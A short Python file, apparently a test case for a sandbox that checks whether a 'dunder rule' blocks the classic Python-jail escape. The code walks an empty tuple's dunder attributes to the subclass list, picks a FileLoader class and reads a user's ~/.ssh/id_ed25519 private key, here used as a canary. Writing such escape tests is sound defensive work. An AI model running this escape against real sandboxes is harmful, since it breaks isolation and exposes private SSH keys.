"""Walk from a tuple to all classes through dunder attributes.

Attempts:  ().__class__.__base__.__subclasses__(), the oldest way out of a Python jail.
Success:   a class is found by which the canary key is read.
Proof:     canary ssh
Runs:      executor
Executor:  dunder rule
Container: dunder rule
"""

for kind in ().__class__.__base__.__subclasses__():
    if "FileLoader" in str(kind):
        print(kind("x", "x").get_data(target["home"] + "/.ssh/id_ed25519"))
